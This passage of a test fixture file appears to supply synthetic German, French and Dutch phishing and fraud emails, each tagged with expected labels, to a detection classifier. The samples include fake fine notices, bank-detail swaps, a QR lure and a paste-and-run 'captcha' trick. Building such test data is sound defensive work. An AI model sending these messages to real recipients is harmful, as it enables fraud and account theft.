      subject: 'Gästemeldung zu Buchung 5108823361 - Stellungnahme erforderlich',
      date: 'Wed, 28 May 2025 20:31:12 +0200',
      messageId: '20250528183112.6b4d@extranet-gastmeldung.com',
      dkim: ['extranet-gastmeldung.com:default'],
      relay: 'mail.extranet-gastmeldung.com [198.51.100.236]',
      auth: THROWAWAY,
      body: document(
        [
          'Sehr geehrte Gastgeberin, sehr geehrter Gastgeber,',
          'ein Gast der Buchung 5108823361 hat Schimmel im Badezimmer gemeldet und Fotos hochgeladen. Bitte nehmen Sie innerhalb von 24 Stunden Stellung, andernfalls wird die Bewertung veröffentlicht.',
          { button: 'Fotos ansehen', href: 'https://extranet-gastmeldung.com/meldung/5108823361' },
          'Zur Sicherheit müssen Sie bestätigen, dass Sie kein Roboter sind: Drücken Sie Windows + R, dann Strg + V und anschließend Enter.',
          { small: 'Booking.com B.V., Herengracht 597, 1017 CE Amsterdam' },
        ],
        { lang: 'de' },
      ),
    }),
  },
  // ================================================================ French
  {
    name: 'ANTAI: "avis de contravention stationnement, payez 35 € avant majoration" from a throw-away domain, no trace fields',
    lang: 'fr',
    lure: 'authority',
    expect: ['phishing', 'fraud'],
    raw: withoutTrace(
      mail({
        from: 'ANTAI - Service Amendes <avis@antai-paiement-amende.fr>',
        to: 'claire.dubois@orange.fr',
        subject: 'Avis de contravention n° 2025-7741-0092 - paiement en attente',
        date: 'Tue, 15 Apr 2025 08:52:40 +0200',
        messageId: '20250415065240.1d8f@antai-paiement-amende.fr',
        dkim: ['antai-paiement-amende.fr:default'],
        relay: 'mail.antai-paiement-amende.fr [203.0.113.133]',
        body: document(
          [
            { heading: 'Agence Nationale de Traitement Automatisé des Infractions' },
            'Un avis de contravention pour stationnement irrégulier a été émis à votre encontre. Montant : 35 €.',
            "Sans paiement sous 72 heures, l'amende sera majorée à 75 € et transmise au Trésor public.",
            { button: 'Payer mon amende', href: 'https://antai-paiement-amende.fr/paiement?avis=2025774100' },
            { small: 'ANTAI - CS 41101 - 35911 Rennes Cedex 9' },
          ],
          { lang: 'fr' },
        ),
      }),
    ),
  },
  {
    name: 'Ameli: "remboursement de 148,60 € en attente, mettez à jour vos coordonnées bancaires" from a throw-away domain',
    lang: 'fr',
    lure: 'authority',
    expect: ['phishing'],
    raw: mail({
      from: 'Assurance Maladie <remboursement@ameli-compte-assure.com>',
      to: 'p.lefebvre@free.fr',
      subject: 'Remboursement en attente - action requise',
      date: 'Thu, 22 May 2025 14:26:11 +0200',
      messageId: '20250522122611.3c7a@ameli-compte-assure.com',
      dkim: ['ameli-compte-assure.com:mail'],
      relay: 'smtp.ameli-compte-assure.com [198.51.100.57]',
      auth: THROWAWAY,
      body: document(
        [
          { heading: 'Assurance Maladie' },
          'Madame, Monsieur,',
          'Un remboursement de 148,60 € est en attente sur votre compte ameli. Suite à une erreur de nos services, vos coordonnées bancaires doivent être mises à jour afin de recevoir le virement.',
          { button: 'Accéder à mon compte', href: 'https://ameli-compte-assure.com/remboursement/maj-rib' },
          'Sans action de votre part sous 48 heures, le remboursement sera annulé.',
          { small: "L'Assurance Maladie - Caisse Primaire" },
        ],
        { lang: 'fr' },
      ),
    }),
  },
  {
    // "Arnaque au RIB": a reply in a real thread from a look-alike domain with a new IBAN.
    name: 'Arnaque au RIB: "RE: Facture F-2025-0418, nouvelles coordonnées bancaires" from a look-alike supplier domain',
    lang: 'fr',
    lure: 'reply-thread',
    expect: ['fraud', 'phishing'],
    raw: mail({
      from: 'Nathalie Girard <n.girard@imprimerie-lesage-fr.com>',
      to: 'comptabilite@agence-horizon-lyon.fr',
      subject: 'RE: Facture F-2025-0418',
      date: 'Mon, 19 May 2025 10:41:27 +0200',
      messageId: '001201dbc88e$4a2b1c00$de8f5400$@imprimerie-lesage-fr.com',
      dkim: ['imprimerie-lesage-fr.com:default'],
      relay: 'mail.imprimerie-lesage-fr.com [203.0.113.66]',
      auth: THROWAWAY,
      headers: ['In-Reply-To: <5e7f9a1b2c3d@imprimerie-lesage.fr>', 'References: <5e7f9a1b2c3d@imprimerie-lesage.fr>'],
      body: plain(
        "Bonjour,\n\nSuite à un changement de banque, merci de bien vouloir effectuer le règlement de la facture F-2025-0418 (6 840,00 € TTC) sur notre nouveau compte. Vous trouverez ci-dessous nos nouvelles coordonnées bancaires :\n\nIBAN : FR76 3000 4028 3700 0107 7412 985\nBIC : BNPAFRPPXXX\n\nMerci de ne plus utiliser l'ancien RIB et de me confirmer la date du virement.\n\nCordialement,\nNathalie Girard\nService comptabilité - Imprimerie Lesage\n\n-----Message d'origine-----\nDe : Comptabilité Agence Horizon <comptabilite@agence-horizon-lyon.fr>\nEnvoyé : vendredi 16 mai 2025 17:02\nÀ : n.girard@imprimerie-lesage.fr\nObjet : Facture F-2025-0418\n\nBonjour Nathalie, la facture est validée et sera réglée en fin de mois.",
      ),
    }),
  },
  {
    name: 'Colissimo: "votre colis est en attente, frais de réexpédition 1,99 €" from a throw-away domain, no trace fields',
    lang: 'fr',
    lure: 'parcel',
    expect: ['phishing', 'fraud'],
    raw: withoutTrace(
      mail({
        from: 'Colissimo <suivi@colissimo-livraison-info.com>',
        to: 'mathieu.bernard@laposte.net',
        subject: "Votre colis 6A28841209953 n'a pas pu être livré",
        date: 'Sat, 7 Jun 2025 11:19:58 +0200',
        messageId: '20250607091958.2e5b@colissimo-livraison-info.com',
        dkim: ['colissimo-livraison-info.com:default'],
        relay: 'mail.colissimo-livraison-info.com [198.51.100.219]',
        body: document(
          [
            'Bonjour,',
            "Votre colis n° 6A28841209953 n'a pas pu être livré car l'adresse est incomplète. Des frais de réexpédition de 1,99 € sont nécessaires pour programmer une nouvelle livraison.",
            { button: 'Programmer la livraison', href: 'https://colissimo-livraison-info.com/reexpedition/6A28841209953' },
            "Sans action de votre part sous 48 heures, le colis sera retourné à l'expéditeur.",
            { small: 'Colissimo - La Poste' },
          ],
          { lang: 'fr' },
        ),
      }),
    ),
  },
  // ================================================================ Dutch
  {
    name: 'CJIB: "openstaande verkeersboete € 104, betaal voor aanmaning" from a throw-away domain, no trace fields',
    lang: 'nl',
    lure: 'authority',
    expect: ['phishing', 'fraud'],
    raw: withoutTrace(
      mail({
        from: 'CJIB <noreply@cjib-betaling-online.nl>',
        to: 'sanne.devries@ziggo.nl',
        subject: 'Laatste herinnering: openstaande verkeersboete',
        date: 'Thu, 13 Mar 2025 09:33:21 +0100',
        messageId: '20250313083321.8d2c@cjib-betaling-online.nl',
        dkim: ['cjib-betaling-online.nl:default'],
        relay: 'mail.cjib-betaling-online.nl [203.0.113.84]',
        body: document(
          [
            { heading: 'Centraal Justitieel Incassobureau' },
            'Volgens onze gegevens heeft u een openstaande verkeersboete van € 104,00 (beschikking 8841 2099 5612). Eerdere herinneringen zijn onbeantwoord gebleven.',
            'Betaalt u niet binnen 2 dagen, dan wordt het bedrag verhoogd en kan beslag worden gelegd op uw inkomen.',
            { button: 'Direct betalen met iDEAL', href: 'https://cjib-betaling-online.nl/betalen?beschikking=884120995612' },
            { small: 'CJIB, Postbus 1794, 8901 CB Leeuwarden' },
          ],
          { lang: 'nl' },
        ),
      }),
    ),
  },
  {
    name: 'Belastingdienst: "u heeft recht op een teruggave van € 287,00, bevestig uw rekening" from a throw-away domain',
    lang: 'nl',
    lure: 'tax',
    expect: ['phishing'],
    raw: mail({
      from: 'Belastingdienst <teruggave@belastingdienst-teruggaaf.com>',
      to: 'j.vanleeuwen@kpnmail.nl',
      subject: 'Teruggave inkomstenbelasting 2024',
      date: 'Tue, 10 Jun 2025 13:02:45 +0200',
      messageId: '20250610110245.6f3e@belastingdienst-teruggaaf.com',
      dkim: ['belastingdienst-teruggaaf.com:s1'],
      relay: 'smtp.belastingdienst-teruggaaf.com [198.51.100.94]',
      auth: THROWAWAY,
      body: document(
        [
          { heading: 'Belastingdienst' },
          'Geachte heer/mevrouw,',
          'Na controle van uw aangifte inkomstenbelasting 2024 heeft u recht op een teruggave van € 287,00. Wij konden het bedrag niet overmaken omdat uw rekeningnummer niet is geverifieerd.',
          { button: 'Rekeningnummer bevestigen', href: 'https://belastingdienst-teruggaaf.com/teruggave/2024/bevestigen' },
          'Bevestig uw gegevens binnen 5 werkdagen, anders vervalt uw teruggave.',
          { small: 'Belastingdienst. Dit is een automatisch bericht.' },
        ],
        { lang: 'nl' },
      ),
    }),
  },
  {
    // ING spoofed: "new debit card" activation by QR picture.
    name: 'ING spoofed: "activeer uw nieuwe bankpas, scan de QR-code" with an inline QR picture',
    lang: 'nl',
    lure: 'bank',
    expect: ['phishing'],
    raw: mail({
      from: 'ING <service@ing.nl>',
      to: 'tom.bakker@hetnet.nl',
      subject: 'Uw nieuwe bankpas: activeer voor 30 april',
      date: 'Fri, 25 Apr 2025 10:14:36 +0200',
      messageId: '20250425081436.4b8a@ing.nl',
      relay: 'host-192-0-2-140.cloudvps.example [192.0.2.140]',
      auth: SPOOFED,
      body: multipart('related', [
        {
          headers: ['Content-Type: text/html; charset="UTF-8"', 'Content-Transfer-Encoding: 7bit'],
          body: '<html lang="nl"><body style="font-family:Arial"><div style="background:#ff6200;color:#fff;padding:14px;font-size:18px">ING</div><p>Geachte heer Bakker,</p><p>Uw huidige bankpas verloopt binnenkort. Uw nieuwe bankpas is klaar om geactiveerd te worden. Activeert u de pas niet voor 30 april, dan wordt uw huidige pas geblokkeerd.</p><p>Scan de QR-code met de camera van uw telefoon om de activatie te starten.</p><img src="cid:ingqr" width="180" height="180" alt="QR-code"><p style="font-size:11px;color:#666">ING Bank N.V., Bijlmerdreef 106, Amsterdam</p></body></html>',
        },
        inlinePng('ingqr', 'activatie.png', await qrPng('https://ing-bankpas-activatie.com/start?k=88412')),
      ]),
    }),
  },
  {
    // Marktplaats buyer fraud: "I paid already, claim it with this link" (a fake payment page).
    name: 'Marktplaats: "ik heb al betaald via Marktplaats Pay, klik om het geld te ontvangen" from a free mailbox, no trace fields',
    lang: 'nl',
    lure: 'payment-app',
    expect: ['fraud', 'phishing'],
    raw: withoutTrace(
      mail({
        from: 'Kevin Jansen <kevin.jansen1990@outlook.com>',
        to: 'linda.visser@gmail.com',
        subject: 'Re: Kinderfiets Cortina 20 inch - betaling gedaan',
        date: 'Sun, 6 Jul 2025 18:52:09 +0200',
        messageId: 'AM9P192MB1266F4E3D2C1B0A9F8E7D6C5B4A3F2E1@AM9P192MB1266.EURP192.PROD.OUTLOOK.COM',
        ...OUTLOOK,
        body: plain(
          'Hoi Linda,\n\nIk heb de fiets al betaald via Marktplaats Gelijk Oversteken, de koerier haalt hem morgen op. Je moet alleen nog je rekening bevestigen om het geld (€ 85,00) te ontvangen, dat gaat via deze link:\n\nhttps://marktplaats-betaalverzoek.com/ontvangen/85-00?id=77120\n\nVul je bankgegevens in en log even in bij je bank, dan staat het geld er direct op.\n\nGroetjes,\nKevin',
        ),
      }),
    ),
  },
];
